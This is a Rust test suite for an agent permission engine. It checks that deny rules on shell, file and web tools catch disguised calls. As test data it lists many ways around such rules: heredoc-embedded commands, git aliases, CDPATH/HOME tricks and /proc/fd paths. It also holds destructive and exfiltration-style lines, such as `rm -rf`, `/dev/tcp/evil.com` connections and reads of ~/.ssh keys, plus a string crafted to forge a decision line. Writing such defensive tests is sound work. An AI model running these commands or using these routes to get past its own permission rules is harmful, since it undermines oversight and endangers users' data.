//! What rules that deny hold for: no part of a call that cannot be read, and no other spelling, leads around them.

#![cfg(feature = "bash")]

mod calls; // a call, and what rules say of it
mod hosts; // texts of an input as addresses
mod texts; // texts of an input as paths

use flyto_permission::{ClassTrust, Layer, Place, Request, Rules, Verdict};
use flyto_tools::{PermissionClass, Preview, ToolId};
use serde_json::{Value, json};

use calls::{check_input, check_script, check_words, denying};

#[test]
fn a_text_that_a_program_reads_may_be_run() {
    let rules = denying("Bash(rm:*)");
    for (script, expected) in [
        ("python3 <<< 'import os; os.system(\"rm -rf x\")'", Verdict::Ask),
        ("python3 <<'E'\nos.system('rm x')\nE", Verdict::Ask),
        ("python3 - <<E\nos.system('/bin/rm x')\nE", Verdict::Ask),
        ("python3 <<< \"$X rm y\"", Verdict::Ask),
        ("python3 <<< 'print(1)'", Verdict::Allow),
        ("sh <<< 'rm x'", Verdict::Deny),
        ("cat > f <<E\nrm is a program\nE", Verdict::Allow),
        ("grep -c rm <<< 'rm x'", Verdict::Allow),
        ("python3 <<E\nfarm\nE", Verdict::Allow),
    ] {
        check_script(&rules, script, expected);
    }
}

#[test]
fn an_alias_of_git_is_asked() {
    let rules = denying("Bash(git push:*)");
    for (script, expected) in [
        ("git push", Verdict::Deny),
        ("git -c a.b=c -C d push", Verdict::Deny),
        ("git -c alias.x=push x origin", Verdict::Ask),
        ("git --config-env alias.x=X x", Verdict::Ask),
        ("GIT_CONFIG_COUNT=1 git x", Verdict::Ask),
        ("/usr/bin/git --no-pager -C d x", Verdict::Ask),
        ("xargs git x", Verdict::Ask),
        ("git status; git --no-pager -C d log --oneline", Verdict::Allow),
        ("git; git --version", Verdict::Allow),
        ("other x", Verdict::Allow),
    ] {
        check_script(&rules, script, expected);
    }
    check_script(&denying("Bash(git push --force)"), "git x", Verdict::Ask);
    check_script(&denying("Bash(rm:*)"), "git x", Verdict::Allow);
}

#[test]
fn what_is_not_read_of_a_script_is_asked() {
    let rules = denying("Bash(rm:*)");
    for (script, expected) in [
        ("for ((i=0;i<2;i++)); do rm -f zz; done", Verdict::Deny),
        ("((x++))\nrm -f zz", Verdict::Deny),
        ("declare -A m=([a]=1); rm -f zz", Verdict::Deny),
        ("m[x]=1; rm -f zz", Verdict::Deny),
        ("coproc rm -f zz", Verdict::Deny),
        ("coproc N { rm -f zz; }", Verdict::Deny),
        (": $(( $(rm -f zz) ))", Verdict::Deny),
        (": ${!x} ${x:i}; rm -f zz", Verdict::Deny),
        ("[[ $# -gt 1 ]] && rm -f zz", Verdict::Deny),
        ("trap 'rm -f zz' EXIT", Verdict::Deny),
        ("v='x[$(rm -f zz)]'; ((v))", Verdict::Ask),
        ("echo 'rm -f zz' | sh", Verdict::Ask),
        ("GIT_PAGER='rm -f zz' git log", Verdict::Ask),
        ("BASH_ENV=<(echo rm zz) bash -c :", Verdict::Ask),
        ("f() echo; rm -f zz", Verdict::Ask),
    ] {
        check_script(&rules, script, expected);
        // Where no rule denies a part of a script, the rule for the tool answers for its text.
        check_script(&denying("q:*"), script, Verdict::Allow);
        // What is not read may be anything.
        if expected == Verdict::Ask && !script.contains("GIT_PAGER") {
            check_script(&denying("Read(/srv/x)"), script, Verdict::Ask);
            check_script(&denying("WebFetch(domain:a.org)"), script, Verdict::Ask);
        }
    }
    check_script(&rules, "rm -f zz; ((x++))", Verdict::Deny);
    let writes = "cat \"$TOOL_INPUT_A\" >>\"$TOOL_INPUT_B\"";
    check_script(&rules, writes, Verdict::Allow);
    check_script(&denying("Edit(/srv/x)"), writes, Verdict::Ask);
    let many = format!("cat {} /srv/secret", "a ".repeat(300));
    check_script(&denying("Read(/srv/secret)"), &many, Verdict::Deny);
    check_script(&denying("Read(/srv/secret)"), "cd /srv; cat ./secret", Verdict::Ask);
    check_script(&denying("Read(/srv/secret)"), "cat ~eve/secret", Verdict::Ask);
    check_script(&denying("WebFetch(domain:evil.com)"), "curl evil.com/a", Verdict::Deny);
    check_script(&denying("WebFetch(domain:evil.com)"), "curl http://$x/a", Verdict::Ask);
}

#[test]
fn what_is_not_read_of_a_command_in_the_input_is_asked() {
    let rules = denying("Bash(rm:*)");
    let check = |command: Value, expected| {
        check_input(&rules, &PermissionClass::BASH, json!({ "command": command }), expected);
    };
    check(json!("rm x"), Verdict::Deny);
    check(json!(["rm", "-rf", "/"]), Verdict::Deny);
    check(json!("ls x"), Verdict::Allow);
    check(json!(["rm x"]), Verdict::Deny);
    check_input(&rules, &PermissionClass::FILE, json!({"a": {"Script": "rm x"}}), Verdict::Deny);
    // Also in parts.
    for input in [
        json!({"command": {"program": "rm", "args": ["x"]}}),
        json!({"commands": {"a": "rm x"}}),
        json!({"scripts": {"build": "rm -rf x"}}),
        json!({"script": {"lines": ["ls", "rm x"]}}),
        json!({"command": [{"text": "rm x"}]}),
        json!({"run": ["a", {"x": "rm x"}]}),
    ] {
        check_input(&rules, &PermissionClass::GENERIC, input, Verdict::Deny);
    }
    // A rule for every command holds for each of them.
    let all = denying("Bash");
    check_input(&all, &PermissionClass::GENERIC, json!({"command": "ls"}), Verdict::Deny);
    check_input(&all, &PermissionClass::GENERIC, json!({"code": "print(1)"}), Verdict::Ask);
    check_input(&all, &PermissionClass::GENERIC, json!({"text": "ls"}), Verdict::Allow);
    for command in ["echo $((x)); rm y", "((x)); rm x", "coproc rm x"] {
        check(json!(command), Verdict::Deny);
    }
    for name in [
        "shell_command",
        "cmdline",
        "Commands",
        "runScript",
        "bash-cmd",
        "args",
        "code",
        "run",
        "toRun",
        "argv",
    ] {
        let class = &PermissionClass::GENERIC;
        check_input(&rules, class, json!({ name: "ls; rm x" }), Verdict::Deny);
        check_input(&rules, class, json!({ name: ["rm", "x"] }), Verdict::Deny);
        check_input(&rules, class, json!({ name: ["ls", "rm x"] }), Verdict::Deny);
        check_input(&rules, class, json!({ name: [["ls"], ["rm", "x"]] }), Verdict::Deny);
        check_input(&rules, class, json!({ "a": [{ name: "rm x" }] }), Verdict::Deny);
        check_input(&rules, class, json!({ name: "ls x" }), Verdict::Allow);
    }
    for name in ["args", "code", "run"] {
        let class = &PermissionClass::GENERIC;
        check_input(&rules, class, json!({ name: "import os; os.system('rm x')" }), Verdict::Ask);
        check_input(&rules, class, json!({ name: "print(f'farm {x}')" }), Verdict::Allow);
    }
    for name in ["description", "text", "transcript", "runner", "barcode"] {
        check_input(&rules, &PermissionClass::GENERIC, json!({ name: "rm x" }), Verdict::Allow);
    }
    for command in ["echo $((x))", "echo a; }; rm x", "echo \"rm x\" | sh"] {
        check(json!(command), Verdict::Ask);
    }
    check(json!(format!("{}; rm x", "a".repeat(70_000))), Verdict::Ask);
}

const CLASSES: [PermissionClass; 5] = [
    PermissionClass::BASH,
    PermissionClass::FILE,
    PermissionClass::WEBFETCH,
    PermissionClass::READONLY,
    PermissionClass::GENERIC,
];

#[test]
fn a_path_is_found_under_any_name_and_in_any_class() {
    let rules = denying("Read(/srv/secret)");
    for class in &CLASSES {
        for input in [
            json!({"filename": "/srv/secret"}),
            json!({"Path": "/srv/./x/../secret"}),
            json!({"path": ["/tmp/a", "/srv/secret"]}),
            json!({"deep": [{"er": "/srv/secret"}]}),
            json!({"option": "--file=/srv/secret"}),
            json!({"data": "@/srv/secret"}),
            json!({"target": "../../../srv/secret"}),
            json!({"mount": "type=bind,src=/srv/secret,ro"}),
            json!({"volume": "a:/srv/secret"}),
        ] {
            check_input(&rules, class, input, Verdict::Deny);
        }
        check_words(&rules, class, &["cat", "/srv/secret"], Verdict::Deny);
        check_words(&rules, class, &["curl", "--data=@x", "--out=/srv/secret"], Verdict::Deny);
        check_words(&rules, class, &["docker", "-v/srv/secret:/x"], Verdict::Deny);
        check_input(&rules, class, json!({"text": "a or /srv/secrets"}), Verdict::Allow);
    }
    // Places of keys need no rule.
    let none = denying("WebFetch(domain:a.org)");
    check_input(&none, &PermissionClass::FILE, json!({"x": "~/.ssh/id"}), Verdict::Deny);
    for rules in [&none, &rules] {
        let about = json!({"text": "put it into a/.ssh/config of yours"});
        check_input(rules, &PermissionClass::GENERIC, about, Verdict::Allow);
    }
}

#[cfg(unix)]
#[test]
fn a_path_that_cannot_be_located_is_asked() {
    let dir = tempfile::tempdir().expect("a directory");
    std::os::unix::fs::symlink("/", dir.path().join("root")).expect("it is ours");
    let long = format!("{}/root/{}srv/secret", dir.path().display(), "tmp/../".repeat(300));
    let check = |rules: &str, expected| {
        check_input(&denying(rules), &PermissionClass::GENERIC, json!({ "a": long }), expected);
    };
    check("Read(/srv/secret)", Verdict::Ask);
    check("Bash(rm:*)", Verdict::Allow);
}

#[test]
fn a_variable_of_the_line_leads_around_no_rule_for_paths() {
    let rules = denying("Read(/home/ada/project/w/secret/**)");
    for line in [
        "CDPATH=/home/ada/project/w; cd secret; cat k",
        "cd /home/ada/project; CDPATH=w cd secret && cat k",
        "export CDPATH=w; cd secret; cat k",
        "declare CDPATH=w; pushd secret; cat k",
        "HOME=/home/ada/project/w; cat ~/secret/k",
        "HOME=w; cd ~/secret; cat k",
        "OLDPWD=/home/ada/project/w; cat ~-/secret/k",
        "HOME=w; cat < ~/secret/k",
        "HOME=w; cd; cat secret/k",
        "HOME=w; dd if=~/secret/k",
    ] {
        let input = json!({ "command": line });
        check_input(&rules, &PermissionClass::GENERIC, input, Verdict::Ask);
        check_words(&rules, &PermissionClass::BASH, &["bash", "-c", line], Verdict::Ask);
    }
    let harmless = json!({"command": "cd src; cat ~/notes"});
    check_input(&rules, &PermissionClass::GENERIC, harmless, Verdict::Allow);
}

#[test]
fn a_redirection_of_a_line_opens_its_file() {
    let rules = |text| denying(text);
    for (rule, line) in [
        ("Read(/srv/secret)", "cat < /srv/secret"),
        ("Read(/srv/secret)", "cat </srv/./secret"),
        ("Read(/srv/secret)", "exec 3<>/srv/secret; cat <&3"),
        ("Read(/srv/secret)", "{ cat; } < /srv/secret"),
        ("Read(.env)", "cat < .env"),
        ("Edit(/srv/out)", "echo x > /srv/out"),
        ("Edit(/srv/out)", "echo x >>/srv/out"),
        ("Edit(/srv/out)", "sh -c 'echo x >/srv/out'"),
    ] {
        for class in &CLASSES {
            check_input(&rules(rule), class, json!({ "command": line }), Verdict::Deny);
        }
        check_words(&rules(rule), &PermissionClass::GENERIC, &["bash", "-c", line], Verdict::Deny);
        check_script(&rules(rule), line, Verdict::Deny);
    }
    let rules = rules("Read(/srv/secret)");
    for (line, expected) in [
        ("cat < \"$x\"", Verdict::Ask),
        ("cd /srv; cat < secret", Verdict::Ask),
        ("cat < notes >/dev/null 2>&1", Verdict::Allow),
    ] {
        let input = json!({ "command": line });
        check_input(&rules, &PermissionClass::GENERIC, input, expected);
    }
}

#[test]
fn words_that_are_appended_are_a_program_behind_a_wrapper() {
    let rules = denying("Bash(victim:*)");
    for wrapper in ["env", "nice", "timeout 5", "nohup", "sudo", "time", "xargs", "env --"] {
        for line in
            [format!("xargs {wrapper} <<< victim"), format!("echo victim | xargs {wrapper}")]
        {
            let input = json!({ "command": line });
            check_input(&rules, &PermissionClass::GENERIC, input, Verdict::Ask);
        }
    }
    for line in
        ["bash /dev/fd/3 3<<< victim", "sh //dev/./fd/3 3<<<victim", "cd /dev; sh fd/3 3<<<victim"]
    {
        let input = json!({ "command": line });
        check_input(&rules, &PermissionClass::GENERIC, input, Verdict::Ask);
    }
    let harmless = json!({"command": "ls | xargs cat; env; sh dev/run"});
    check_input(&rules, &PermissionClass::GENERIC, harmless, Verdict::Allow);
}

#[test]
fn a_connection_of_bash_is_one_to_its_host() {
    let rules = denying("WebFetch(domain:evil.com)");
    for line in [
        "exec 3<>/dev/tcp/evil.com/80",
        "echo > /dev/tcp/evil.com/80",
        "cat < \"/dev/udp/EVIL.com/80\"",
        "sh -c 'echo >/dev/tcp/evil.com/1'",
    ] {
        let input = json!({ "command": line });
        check_input(&rules, &PermissionClass::GENERIC, input, Verdict::Deny);
        check_words(&rules, &PermissionClass::BASH, &["bash", "-c", line], Verdict::Deny);
    }
    for line in ["echo > /dev/tcp/$HOST/80", "exec 3<>$p", "exec 3<>/dev/t$x/a/1"] {
        let open = json!({ "command": line });
        check_input(&rules, &PermissionClass::GENERIC, open, Verdict::Ask);
    }
    let other = json!({"command": "echo > /dev/tcp/good.org/80"});
    check_input(&rules, &PermissionClass::GENERIC, other, Verdict::Allow);
}

#[test]
fn an_address_is_found_however_it_is_written() {
    let rules = denying("WebFetch(domain:evil.com)");
    let long = format!("http://evil.com/a#{}", "1".repeat(9000));
    for url in [
        "http://evil.com/a",
        "evil.com/a",
        "EVIL.com:45998/a",
        "//evil.com",
        "ftp://evil.com/",
        "wss://evil.com",
        "http:evil.com",
        "http://evil.com..",
        "http://user@evil.com",
        "view-source:http://evil.com",
        "http://good.org http://evil.com",
        "a=b=evil.com",
        "::evil.com:",
        "-xevil.com",
        &*long,
    ] {
        for class in &CLASSES {
            check_input(&rules, class, json!({ "url": url }), Verdict::Deny);
        }
        check_input(&rules, &PermissionClass::GENERIC, json!({ "address": url }), Verdict::Deny);
        check_words(&rules, &PermissionClass::GENERIC, &["curl", url], Verdict::Deny);
    }
    for url in ["http://good.org:99999", "http://good.org:80:80/"] {
        check_input(&rules, &PermissionClass::GENERIC, json!({ "url": url }), Verdict::Ask);
    }
    for text in ["evil", "good.org", "a note on good.org", "http://good.org/evil.com"] {
        check_input(&rules, &PermissionClass::GENERIC, json!({ "text": text }), Verdict::Allow);
    }
    let all = denying("WebFetch");
    check_input(&all, &PermissionClass::GENERIC, json!({ "text": "a word" }), Verdict::Allow);
    check_input(&all, &PermissionClass::GENERIC, json!({ "url": "localhost:1" }), Verdict::Deny);
}

#[test]
fn an_input_of_many_values_is_asked() {
    let many = json!(vec!["x"; 5000]);
    let check = |rules: &str, expected| {
        check_input(&denying(rules), &PermissionClass::GENERIC, many.clone(), expected);
    };
    check("Read(/srv/secret)", Verdict::Ask);
    check("Bash(rm:*)", Verdict::Allow);
}

#[test]
fn what_is_assigned_is_no_program() {
    let rules = denying("Bash(rm:*)");
    for script in
        ["x=$(date); echo \"$x\"", "n=$((1 + 2)); echo $n", "x=${1:-a}; echo $x", "x=$y; ls"]
    {
        check_script(&rules, script, Verdict::Allow);
    }
    check_script(&rules, "x=$(rm a)", Verdict::Deny);
    check_script(&rules, "x=$(date) rm a", Verdict::Deny);
    check_script(&rules, "x=$(date); $x a", Verdict::Ask);
    let with_variable = denying("Bash(x=1 make:*)");
    check_script(&with_variable, "x=$(date) make", Verdict::Ask);
    check_script(&with_variable, "y=$(date); make", Verdict::Allow);
}

#[test]
fn a_rule_for_a_server_holds_whatever_the_servers_name() {
    for (tool, rule) in [
        ("my__srv:read", "mcp__my__srv__read"),
        ("my__srv:read", "mcp__my__srv__*"),
        ("my__srv:read", "mcp__my__srv"),
        ("my__srv:read", "my__srv__read"),
        ("srv_:read", "mcp__srv___read"),
        ("srv_:read", "mcp__srv_"),
        ("srv:read", "mcp__srv__read"),
        ("srv:my.tool", "srv__mytool-bab745"),
        ("srv:my.tool", "mcp__srv__mytool-bab745"),
    ] {
        let mut rules = Rules::builder();
        for (effect, text) in [(Verdict::Allow, tool), (Verdict::Deny, rule)] {
            rules.add(Layer::Operator, effect, text, Place::default()).expect("these are rules");
        }
        let id = ToolId::parse(tool).expect("this is a name");
        let request = Request::new(&id).class_trust(ClassTrust::Named);
        let request =
            if tool.contains('.') { request.wire_name("srv__mytool-bab745") } else { request };
        let decision = rules.build().decide(&request);
        assert_eq!(decision.verdict, Verdict::Deny, "{tool}, {rule}: {decision}");
    }
}

#[test]
fn a_rule_that_allows_a_server_allows_no_plugin_of_its_name() {
    use Verdict::{Allow, Ask, Deny};
    for text in ["mcp__db__get_row", "mcp__db__get_*", "mcp__db__*", "mcp__db"] {
        for (texts, of_server, of_plugin) in [
            (&[(Allow, text)][..], Allow, Ask),
            (&[(Allow, text), (Allow, "db:*")], Allow, Allow),
            (&[(Allow, "db:*"), (Ask, text)], Ask, Ask),
            (&[(Allow, "db:*"), (Deny, text)], Deny, Deny),
        ] {
            let mut rules = Rules::builder();
            for (effect, text) in texts {
                rules.add(Layer::Operator, *effect, text, Place::default()).expect("it is a rule");
            }
            let rules = rules.build();
            let id = ToolId::parse("db:get_row").expect("this is a name");
            let aliases = ["db__get_row".to_owned(), "db:get_row".to_owned()];
            for trust in [ClassTrust::Named, ClassTrust::Unnamed] {
                let request = Request::new(&id).class_trust(trust).aliases(&aliases);
                for (is_one, expected) in [(true, of_server), (false, of_plugin)] {
                    let decision = rules.decide(&request.of_server(is_one));
                    assert_eq!(decision.verdict, expected, "{texts:?}, {is_one}: {decision}");
                }
            }
        }
    }
}

#[test]
fn no_text_of_a_call_makes_a_line_of_a_decision() {
    let id = ToolId::parse("p:t").expect("this is a name");
    let text = "/srv/a\nallow: tool p:t: p:*\u{202e}";
    let preview = Preview::new().with_path(text, flyto_tools::Access::Read);
    let url = Preview::new().with_url(text);
    for (class, preview) in [(PermissionClass::FILE, preview), (PermissionClass::WEBFETCH, url)] {
        let request =
            Request::new(&id).class(&class).class_trust(ClassTrust::Named).preview(Some(&preview));
        let shown = Rules::default().decide(&request).to_string();
        assert!(shown.contains(r"/srv/a\nallow: tool p:t: p:*\u{202e}"), "{shown}");
        assert_eq!(shown.lines().count(), 1, "{shown}");
    }
}

#[test]
fn a_descriptor_or_a_process_that_is_not_there_yet_may_lead_anywhere() {
    let rules = denying("Read(/srv/secret/**)");
    for line in [
        "cat /dev/fd/200/srv/secret/k 200</",
        "exec 200</; cat /proc/self/fd/200/srv/secret/k",
        "cat /proc/self/task/4194303/cwd/k",
        "cat /proc/4194303/root/srv/secret/k",
        "exec 200</srv; cp -r /dev/fd/200 x",
    ] {
        check_input(&rules, &PermissionClass::GENERIC, json!({"command": line}), Verdict::Ask);
    }
    let none = denying("Bash(rm:*)");
    let line = json!({"command": "cat /dev/fd/200/k 200</"});
    check_input(&none, &PermissionClass::GENERIC, line, Verdict::Allow);
    let line = json!({"command": "cat /proc/4194303/status"});
    check_input(&rules, &PermissionClass::GENERIC, line, Verdict::Allow);
}

#[test]
fn a_variable_that_changes_wildcards_is_asked() {
    let rules = denying("Read(.env)");
    for line in [
        "GLOBIGNORE=x; cat cfg/*",
        "declare GLOBIGNORE=x; cat cfg/*",
        "read GLOBIGNORE; cat cfg/*",
        "BASHOPTS=dotglob bash -c 'cat cfg/*'",
    ] {
        check_input(&rules, &PermissionClass::GENERIC, json!({"command": line}), Verdict::Ask);
    }
    let plain = json!({"command": "x=1; cat cfg/*"});
    check_input(&rules, &PermissionClass::GENERIC, plain, Verdict::Allow);
}

/// The usual form in which a tool that runs programs takes them.
#[test]
fn a_program_beside_its_arguments_is_one_command() {
    let rules = denying("Bash(git push:*)");
    let class = PermissionClass::new("x");
    for input in [
        json!({ "command": "git", "args": ["push"] }),
        json!({ "command": "git", "args": ["-C", "d", "push", "origin"] }),
        json!({ "command": "/usr/bin/git", "arguments": "push origin" }),
        json!({ "command": { "program": "git", "args": ["push"] } }),
        json!({ "steps": [{ "cmd": "git -C d", "argv": ["push"] }] }),
        json!({ "command": ["git", "-C", "d"], "args": ["push"] }),
        json!({ "command": { "program": "git" }, "args": ["push"] }),
        json!({ "file": "git", "args": ["push"] }),
        json!({ "name": "git", "arguments": ["push"] }),
        json!({ "exec": ["git"], "args": "push origin" }),
    ] {
        check_input(&rules, &class, input, Verdict::Deny);
    }
    for input in [
        json!({ "command": "git", "args": ["status"] }),
        json!({ "command": "git", "other": ["push"] }),
        json!({ "command": "npm", "args": ["push"] }),
        json!({ "command": { "program": "npm" }, "args": ["push"] }),
        json!({ "file": "notes.txt", "options": "push" }),
        json!({ "name": "git", "arguments": { "what": "push" } }),
    ] {
        check_input(&rules, &class, input, Verdict::Allow);
    }
    // Some programs need no arguments.
    let rules = denying("Bash(reboot:*)");
    check_input(&rules, &class, json!({ "program": "reboot" }), Verdict::Deny);
    check_input(&rules, &class, json!({ "executable": "/sbin/reboot" }), Verdict::Deny);
    check_input(&rules, &class, json!({ "program": "rebooting" }), Verdict::Allow);
}

/// A text for another language may read as a command line.
#[test]
fn quotes_of_another_language_hide_no_command() {
    let rules = denying("Bash(git push:*)");
    let class = PermissionClass::new("x");
    for input in [
        json!({ "code": "system\"git push\"" }),
        json!({ "code": "exec 'git', 'push'" }),
        json!({ "arguments": "{\"command\":\"git push\"}" }),
    ] {
        check_input(&rules, &class, input, Verdict::Ask);
    }
    check_input(&rules, &class, json!({ "code": "system\"git status\"" }), Verdict::Allow);
}
